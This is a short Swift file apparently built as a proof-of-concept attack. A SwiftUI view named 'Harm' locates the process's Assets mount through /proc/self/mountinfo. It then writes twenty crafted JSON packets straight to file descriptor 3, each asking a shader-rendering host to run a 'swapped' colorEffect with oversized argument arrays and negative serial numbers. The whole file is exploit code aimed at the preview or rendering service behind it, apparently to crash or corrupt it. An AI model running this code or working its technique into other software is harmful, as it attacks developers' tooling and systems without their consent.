// 0
import Foundation
import SwiftUI

struct Harm: View {
  var body: some View {
    // A function that comes with the program, and takes nothing.
    let mounts = (try? String(contentsOfFile: "/proc/self/mountinfo", encoding: .utf8)) ?? ""
    let assets = mounts.split(separator: " ").first { $0.hasSuffix("/Assets") } ?? "/"
    let file = "\(assets)/Shaders/Pipeline.metal"
    let list = Array(repeating: #"{"numbers":{"_0":[1.5,1.5,1.5,1.5]}}"#, count: 32).joined(separator: ",")
    let lists = "[]" + String(repeating: ",[\(list)]", count: 50)
    let function = #"{"file":"\#(file)","name":"swapped","kind":"colorEffect"}"#
    let question = #""chain":[\#(function)],"arguments":[\#(lists)],"width":4,"height":4,"strictHalf":false"#
    for serial in 1...20 {
      let packet = #"{"asks":{"_0":{"program":{"_0":{\#(question)}}},"serial":\#(-serial)}}"#
      _ = write(3, packet, packet.utf8.count)
      usleep(200_000)
    }
    return Color.red
  }
}

#Preview { Harm() }
